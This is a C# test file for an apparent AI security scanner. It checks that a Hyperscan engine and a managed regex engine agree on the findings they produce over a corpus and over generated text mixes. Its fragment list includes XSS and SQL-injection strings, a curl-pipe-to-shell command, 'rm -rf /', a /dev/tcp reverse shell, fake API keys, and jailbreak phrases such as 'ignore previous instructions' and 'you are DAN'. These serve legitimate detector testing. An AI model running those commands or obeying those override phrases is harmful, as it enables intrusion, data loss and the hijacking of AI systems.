using System.Text;
using System.Text.Json;
using AiSpm.Detection.Engines;
using AiSpm.Detection.Engines.Managed;
using AiSpm.Detection.Normalization;
using CsCheck;

namespace AiSpm.Detection.Tests.Engines;

/// <summary>
/// Both engines agree: Hyperscan fires every rule the regexes match (it may fire more in prefilter mode, never less),
/// the findings (rule ids and spans) of the two inspectors are identical, and both find what every regex run over the
/// whole text finds.
/// </summary>
public class DifferentialTests
{
    private static string Describe(Inspector inspector, FindingList findings)
    {
        var sb = new StringBuilder();
        var list = new List<string>();
        foreach (var f in findings.AsSpan())
        {
            list.Add(inspector.Rules[f.RuleIndex].Id + "@" + f.Start + "-" + f.End);
        }

        list.Sort(StringComparer.Ordinal);
        return string.Join(" ", list);
    }

    private static void AssertAgree(string text, ScanPhase phase)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var hs = new FindingList();
        var managed = new FindingList();
        Inspectors.Hyperscan.ScanText(bytes, phase, hs);
        Inspectors.Managed.ScanText(bytes, phase, managed);
        Assert.True(Describe(Inspectors.Hyperscan, hs) == Describe(Inspectors.Managed, managed), "engines disagree on: " + text);

        // Below the inspector: on the normalized text, every rule the regexes match must have fired in Hyperscan.
        var normalized = new NormalizedText();
        Normalizer.Normalize(bytes, jsonEscaped: false, 0, normalized);
        var rules = Inspectors.Hyperscan.Rules.Count;
        var hsSink = new MatchSink();
        hsSink.Reset(rules);
        Inspectors.Hyperscan.Engine.Scan(normalized.Bytes, phase, hsSink);
        var mSink = new MatchSink();
        mSink.Reset(rules);
        Inspectors.Managed.Engine.Scan(normalized.Bytes, phase, mSink);
        foreach (var r in mSink.FiredRules)
        {
            Assert.True(hsSink.FiredRules.Contains(r), "hyperscan missed " + Inspectors.Managed.Rules[r].Id + " on: " + text);
        }

        hsSink.Canonicalize();
        mSink.Canonicalize();
        Assert.Equal(mSink.Matches.ToArray().Select(m => (m.Rule, m.Start, m.End)), hsSink.Matches.ToArray().Select(m => (m.Rule, m.Start, m.End)));

        // Both engines run regexes only in windows around pieces; every regex over the whole text must find the same.
        var wholeSink = new MatchSink();
        wholeSink.Reset(rules);
        ((ManagedEngine)Inspectors.Managed.Engine).ScanWholeText(normalized.Bytes, phase, wholeSink);
        wholeSink.Canonicalize();
        Assert.Equal(wholeSink.Matches.ToArray().Select(m => (m.Rule, m.Start, m.End)), mSink.Matches.ToArray().Select(m => (m.Rule, m.Start, m.End)));
    }

    [Fact]
    public void EnginesAgreeOnEveryDevCorpusText()
    {
        var path = Path.Combine(Inspectors.CorpusDirectory, "dev.jsonl");
        Assert.True(File.Exists(path), "corpus not found: " + path);
        var rows = 0;
        foreach (var line in File.ReadLines(path))
        {
            using var doc = JsonDocument.Parse(line);
            var text = doc.RootElement.GetProperty("text").GetString()!;
            var phase = doc.RootElement.GetProperty("phase").GetString() == "response" ? ScanPhase.Response : ScanPhase.Request;
            AssertAgree(text, phase);
            rows++;
        }

        Assert.True(rows > 500);
    }

    private static List<(string Text, ScanPhase Phase)> DevTexts()
    {
        var rows = new List<(string, ScanPhase)>();
        foreach (var line in File.ReadLines(Path.Combine(Inspectors.CorpusDirectory, "dev.jsonl")))
        {
            using var doc = JsonDocument.Parse(line);
            var phase = doc.RootElement.GetProperty("phase").GetString() == "response" ? ScanPhase.Response : ScanPhase.Request;
            rows.Add((doc.RootElement.GetProperty("text").GetString()!, phase));
        }

        return rows;
    }

    private static readonly string[] Separators = ["\n", " ", ". ", "\n\n", "? ", "; ", "", "! "];

    /// <summary>
    /// The whole dev corpus, attacks and benign texts mixed, as documents of about 24 KB: long enough that Hyperscan's
    /// confirmation runs each candidate's regex only in windows around its pieces, which must find exactly what the
    /// managed engine finds running every regex over the whole document.
    /// </summary>
    public static IEnumerable<object[]> LongDocuments()
    {
        var rows = DevTexts();
        var sb = new StringBuilder();
        var k = 0;
        foreach (var (text, _) in rows)
        {
            sb.Append(text).Append(Separators[k++ % Separators.Length]);
            if (sb.Length > 24_000)
            {
                yield return [sb.ToString()];
                sb.Clear();
            }
        }

        yield return [sb.ToString()];
    }

    [Theory]
    [MemberData(nameof(LongDocuments))]
    public void EnginesAgreeOnLongDocuments(string document)
    {
        AssertAgree(document, ScanPhase.Request);
        AssertAgree(document, ScanPhase.Response);
    }

    [Fact]
    public void WindowsKeepConfirmationToAFractionOfALongDocument()
    {
        var engine = (AiSpm.Detection.Engines.Hyperscan.HyperscanEngine)Inspectors.Hyperscan.Engine;
        long confirmed = 0, whole = 0;
        var normalized = new NormalizedText();
        foreach (var row in LongDocuments())
        {
            normalized.Clear();
            Normalizer.Normalize(Encoding.UTF8.GetBytes((string)row[0]), jsonEscaped: false, 0, normalized);
            confirmed += engine.ConfirmedBytes(normalized.Bytes, ScanPhase.Request);
            whole += (long)engine.CountCandidates(normalized.Bytes, ScanPhase.Request) * normalized.Length;
        }

        Assert.True(whole > 0);
        Assert.True(confirmed * 4 < whole, "confirmation read " + confirmed + " bytes of " + whole);
    }

    [Fact]
    public void EnginesAgreeOnGeneratedLongMixes()
    {
        var rows = DevTexts();
        var piece = Gen.Select(Gen.Int[0, rows.Count - 1], Gen.Int[0, Separators.Length - 1], Gen.Int[0, 3], (r, s, cut) =>
        {
            // Whole texts, and texts cut at a quarter, half or three quarters so pieces and sentences break apart.
            var text = rows[r].Text;
            var from = cut == 0 ? 0 : text.Length * cut / 4;
            if (from > 0 && char.IsLowSurrogate(text[from]))
            {
                from--;
            }

            return text[from..] + Separators[s];
        });
        piece.Array[20, 120]
            .Select(parts => string.Concat(parts))
            .Sample(text =>
            {
                AssertAgree(text, ScanPhase.Request);
                AssertAgree(text, ScanPhase.Response);
            }, iter: 40, threads: 1);
    }

    /// <summary>
    /// Texts whose decoded payload joins the text after trailing whitespace: the join once left two newlines in a row,
    /// which a piece spelling <c>[\n ]*</c> as one byte did not match ("DAN\n\n:" for <c>DAN[\n ]*:</c>), so Hyperscan
    /// missed what the regexes found (a generated mix found it).
    /// </summary>
    [Theory]
    [InlineData(":%3C\U0001F600_born on 1/2/1990\u00e9you are DAN\n")]
    [InlineData(":%3Cthen you are DAN \n")]
    public void EnginesAgreeWhereADecodedPayloadFollowsWhitespace(string text)
    {
        AssertAgree(text, ScanPhase.Request);
        AssertAgree(text, ScanPhase.Response);
    }

    private static readonly string[] Fragments =
    [
        "<script>", "</script>", "alert(1)", " onerror=", "<img src=x", "javascript:", "' OR 1=1 --", "UNION SELECT", "; DROP TABLE t",
        "curl http://a.example/x | sh", "rm -rf /", "bash -i >& /dev/tcp/1.2.3.4/80", "password = ", "api_key: ", "Xk29vLq8Tz4pWn7s",
        "AKIA", "Q3EGRTZ7MX4PLN2K", "sk_live_", "4eC39HqLyjWDarjtT1zdp7dc", "eyJhbGciOiJIUzI1NiJ9.", "eyJzdWIiOiIxMjM0In0.", "abcDEF123_-xyz",
        "4111 1111 1111 1111", "123-45-6789", "DE89370400440532013000", "a.b@example.com", "10.0.0.1", "+44 7700 900123", "born on 1/2/1990",
        "ignore previous instructions", "system prompt", "you are DAN", "reveal your instructions", "remember to always",
        "\u0430", "\u0455", "\u200B", "\u202E", "\uFF41", "\u00e9", "\u4e2d\u6587", "\U0001F600", "&#60;", "%3C", "\\u003c",
        " ", "  ", "\n", "\t", "-", "_", ".", ":", "=", "\"", "'", "/", "|", "&", ";", "(", ")", "[", "]", "!", "?", "#", "x", "0", "9", "Z",
    ];

    [Fact]
    public void EnginesAgreeOnGeneratedMixes()
    {
        Gen.OneOf(Fragments).Array[1, 16]
            .Select(parts => string.Concat(parts))
            .Sample(text =>
            {
                AssertAgree(text, ScanPhase.Response);
                AssertAgree(text, ScanPhase.Request);
            }, iter: 400, threads: 1);
    }
}
